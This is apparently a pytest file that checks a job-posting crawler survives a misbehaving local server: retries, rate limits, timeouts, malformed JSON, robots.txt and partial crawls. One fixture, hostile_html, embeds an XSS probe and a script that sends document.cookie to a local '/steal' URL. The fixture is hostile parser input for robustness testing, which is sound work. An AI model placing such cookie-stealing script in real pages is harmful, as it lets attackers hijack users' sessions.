"""Crawls against a misbehaving server on 127.0.0.1: every fault is survived, counted and told
in one line, the good records still reach the raw zone, and a failed crawl loads nothing.

Each test is one real crawl (a Scrapy subprocess, as `sourcing crawl` runs it) with short
timeouts and small bodies, so the whole file takes a few seconds per test.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from pipelines.rawzone.layout import RawZone
from sourcing.crawl import CrawlError, crawl
from tests.builders import job_posting, jobposting_page
from tests.fault_server import (
    FaultServer,
    json_reply,
    note,
    redirect,
    reply,
    reset,
    sequence,
    slow,
    truncated,
)

FAST = {
    "DOWNLOAD_DELAY": "0",
    "AUTOTHROTTLE_ENABLED": "False",
    "DOWNLOAD_TIMEOUT": "1",
    "RETRY_TIMES": "1",
    "RETRY_AFTER_MAX": "5",
    "REDIRECT_MAX_TIMES": "3",
    "DOWNLOAD_MAXSIZE": "200000",
    "CONCURRENT_REQUESTS_PER_DOMAIN": "4",
    "CLOSESPIDER_ERRORCOUNT": "50",
}
ORG = {"@type": "Organization", "name": "Acme Robotics"}


def page(title: str) -> str:
    return jobposting_page(
        {"@context": "https://schema.org", **job_posting(title, hiringOrganization=ORG)}
    )


def records(path: Path | None) -> list[dict]:
    if path is None:
        return []
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def hostile_html() -> str:
    """A page built to hurt a parser: a 100 kB attribute, 3,000 nested tags, scripts that
    would run in a browser, a broken JSON-LD block, and one real posting."""
    nested = "<div>" * 3000 + "deep" + "</div>" * 3000
    posting = job_posting("Hostile Engineer", hiringOrganization=ORG)
    return jobposting_page(
        {"@context": "https://schema.org", **posting},
        raw=('{"@type": "JobPosting", "title": ',),  # cut off
        body=f'<p title="{"x" * 100_000}">hi</p>{nested}'
        '<script>fetch("http://127.0.0.1:9/steal?c="+document.cookie)</script>'
        '<img src=x onerror="alert(1)">',
    )  # fmt: skip


def test_every_page_fault_is_survived_and_the_good_pages_load(tmp_path):
    ok_then_503 = sequence(
        reply(503, "busy", "text/plain", {"Retry-After": "2"}), reply(body=page("Retried Engineer"))
    )
    routes = {
        "/robots.txt": reply(200, "User-agent: *\nAllow: /\n", "text/plain"),
        "/good": reply(body=page("Good Engineer")),
        "/retry-after": ok_then_503,
        "/500": reply(500, "oops", "text/plain"),
        "/429": reply(429, "slow down", "text/plain"),
        "/429-long": reply(429, "come back tomorrow", "text/plain", {"Retry-After": "3600"}),
        "/timeout": slow(3, reply(body=page("Too Slow"))),
        "/reset": reset,
        "/truncated": truncated(page("Cut Off").encode()[:200], 5000),
        "/empty": reply(200, b""),
        "/huge": reply(body=b"<html>" + b"a" * 300_000),
        "/loop": redirect("/loop"),
        "/latin1": reply(body=page("Ingénieur Données").encode("latin-1")),  # says utf-8
        "/json": json_reply({"not": "html"}),
        "/hostile": reply(body=hostile_html()),
    }  # fmt: skip
    with FaultServer(routes) as server:
        urls = ",".join(server.url + p for p in routes if p != "/robots.txt")
        result = crawl(
            "jobposting", RawZone(tmp_path), spider_args={"urls": urls}, settings=FAST, timeout=60
        )
        asked = server.times("/retry-after")
        long_waits = server.times("/429-long")
    titles = sorted(r["record"]["title"] for r in records(result.path))
    # A wrong charset garbles the accents, but the record is kept as sent.
    assert [t[:3] for t in titles] == ["Goo", "Hos", "Ing", "Ret"]
    assert len(asked) == 2 and asked[1] - asked[0] >= 1.9  # waited as asked (2 s), per domain
    assert len(long_waits) == 1  # asked to wait an hour: not retried, not hammered
    assert result.stats.get("retry_after/waits") == 1
    assert result.stats.get("retry_after/too_long") == 1
    assert result.summary["http_errors"] >= 3  # 500, 429 and the hour-long 429
    note("14 page faults in one crawl", inputs=len(routes) - 1, rows_lost=0,
         outcome=f"4 good pages kept; Retry-After waited {asked[1] - asked[0]:.1f}s")  # fmt: skip


@pytest.fixture
def hn_api():
    good_comment = {
        "id": 501,
        "type": "comment",
        "author": "acme_hr",
        "text": "Acme | ML Engineer | Remote",
        "created_at_i": 1790000000,
    }
    children = [
        good_comment,
        "a string among the children",
        None,
        {"type": "comment", "author": "no_id", "text": "Acme | no id"},
        {"id": 503, "type": "comment", "author": "n", "text": 12345},
        {"id": 504, "type": "comment", "author": ["a"], "text": "author is a list"},
        {**good_comment, "id": "505", "text": "Beta | Data Scientist | Berlin"},
        {"id": 506, "type": "comment", "author": None, "text": None},  # deleted
    ]
    thread = {"id": 1, "title": "Ask HN: Who is hiring? (November 2026)", "children": children}
    odd = {"id": 6, "title": 5, "created_at_i": "soon", "children": "none"}
    routes = {
        "/robots.txt": reply(404, "", "text/plain"),
        "/api/v1/items/1": json_reply(thread),
        "/api/v1/items/2": truncated(json.dumps(thread).encode()[:300], 9000),
        "/api/v1/items/3": reply(200, "<html><body>Bad gateway</body></html>"),
        "/api/v1/items/4": json_reply([thread]),
        "/api/v1/items/5": reply(200, b"", "application/json"),
        "/api/v1/items/6": json_reply(odd),
        "/api/v1/items/7": reply(200, b'{"id": 7, "title": "caf\xe9"}', "application/json"),
    }  # fmt: skip
    with FaultServer(routes) as server:
        yield server


def test_malformed_json_and_comments_never_drop_the_rest_of_the_thread(tmp_path, hn_api):
    settings = {**FAST, "HN_API_URL": f"{hn_api.url}/api/v1"}
    result = crawl(
        "hn_hiring",
        RawZone(tmp_path),
        spider_args={"threads": "1,2,3,4,5,6,7"},
        settings=settings,
        timeout=60,
    )
    assert sorted(r["source_id"] for r in records(result.path)) == ["501", "505"]
    s = result.summary
    assert s["comments_malformed"] == 5 and s["comments_deleted"] == 1
    assert s["pages_failed"] >= 3  # HTML, a list, an empty body (truncated: a download error)
    note("7 bad HN API answers, 6 bad comments", inputs=13, rows_lost=0,
         outcome="both good comments kept")  # fmt: skip


def test_a_source_that_fails_whole_is_told_in_one_line_and_loads_nothing(tmp_path):
    routes = {
        "/robots.txt": reply(404, "", "text/plain"),
        "/jobs": reply(503, "down", "text/plain"),
    }
    with FaultServer(routes) as server, pytest.raises(CrawlError) as failed:
        crawl(
            "jobposting",
            RawZone(tmp_path),
            spider_args={"urls": f"{server.url}/jobs"},
            settings=FAST,
            timeout=60,
        )
    message = str(failed.value)
    assert "\n" not in message and "Traceback" not in message
    assert "no records" in message and "503" in message and f"{server.url}/jobs" in message
    log = Path(message.rsplit("log: ", 1)[1])
    assert log.is_file() and log.is_relative_to(tmp_path / "logs")
    assert RawZone(tmp_path).files() == []
    note("a source down (503)", inputs=1, outcome=message.split(": ", 1)[1][:60] + "…")


def test_robots_txt_that_disallows_the_source_says_so(tmp_path):
    routes = {
        "/robots.txt": reply(200, "User-agent: *\nDisallow: /\n", "text/plain"),
        "/jobs": reply(body=page("Never Fetched")),
    }
    with FaultServer(routes) as server, pytest.raises(CrawlError, match="robots.txt disallowed 1"):
        crawl(
            "jobposting",
            RawZone(tmp_path),
            spider_args={"urls": f"{server.url}/jobs"},
            settings=FAST,
            timeout=60,
        )
    assert server.times("/jobs") == []
    note("robots.txt disallows", inputs=1, outcome="told: robots.txt disallowed 1 request")


def test_a_partial_crawl_is_set_aside_and_closes_nothing(tmp_path):
    zone = RawZone(tmp_path)
    before = zone.root / "jobposting" / "2026-11-01" / "20261101T000000Z-aaaaaa.jsonl"
    before.parent.mkdir(parents=True)
    line = {"source": "jobposting", "url": "u", "fetched_at": "2026-11-01T00:00:00Z", "record": {}}
    before.write_text("".join(json.dumps({**line, "source_id": str(i)}) + "\n" for i in range(25)))
    routes = {"/robots.txt": reply(404, "", "text/plain"), "/jobs": reply(body=page("Lone Job"))}
    with FaultServer(routes) as server, pytest.raises(CrawlError) as failed:
        crawl(
            "jobposting",
            zone,
            spider_args={"urls": f"{server.url}/jobs"},
            settings=FAST,
            timeout=60,
        )
    assert "only 1 records where the last crawl had 25" in str(failed.value)
    assert zone.files() == [before]  # the raw zone holds only the last good crawl
    aside = list((tmp_path / "failed").rglob("*.jsonl"))
    assert len(aside) == 1 and len(records(aside[0])) == 1  # kept for a look, never loaded
    note("partial crawl (1 where 25)", inputs=1, rows_lost=0, outcome="set aside, closes nothing")


LOG_HEAD = "2026-12-06 22:00:00 [scrapy.core.engine] INFO: Spider opened\n"
LOGS = {
    "dns": (
        "2026-12-06 22:00:01 [scrapy.core.scraper] ERROR: Error downloading"
        " <GET https://nowhere.example/api>\n"
        "Traceback (most recent call last):\n  File \"x.py\", line 1, in f\n"
        "twisted.internet.error.DNSLookupError: DNS lookup failed: no results for hostname"
        " lookup: nowhere.example.\n",
        "twisted.internet.error.DNSLookupError: DNS lookup failed: no results for hostname lookup:"
        " nowhere.example. (https://nowhere.example/api)",
    ),
    "status": (
        "2026-12-06 22:00:01 [scrapy.spidermiddlewares.httperror] INFO: Ignoring response"
        " <404 https://api.example/jobs>: HTTP status code is not handled or not allowed\n",
        "HTTP 404 from https://api.example/jobs",
    ),
    "gave up": (
        "2026-12-06 22:00:01 [scrapy.downloadermiddlewares.retry] ERROR: Gave up retrying"
        " <GET https://api.example/jobs> (failed 4 times): 503 Service Unavailable\n",
        "503 Service Unavailable from https://api.example/jobs (gave up retrying)",
    ),
    "spider bug": (
        "2026-12-06 22:00:01 [scrapy.core.scraper] ERROR: Spider error processing"
        " <GET https://api.example/jobs> (referer: None)\nTraceback (most recent call last):\n"
        "  File \"x.py\", line 1, in parse\nKeyError: 'jobs'\n",
        "KeyError: 'jobs'",
    ),
    "bad argument": (
        "Traceback (most recent call last):\n  File \"x.py\", line 1\n"
        "ValueError: threads must be Hacker News item ids, got abc\n",
        "ValueError: threads must be Hacker News item ids, got abc",
    ),
}  # fmt: skip


@pytest.mark.parametrize("case", LOGS)
def test_the_first_real_error_of_a_crawl_log_in_one_line(tmp_path, case):
    from sourcing.crawl import first_error

    text, expected = LOGS[case]
    log = tmp_path / "crawl.log"
    log.write_text(LOG_HEAD + text)
    assert first_error(log) == expected
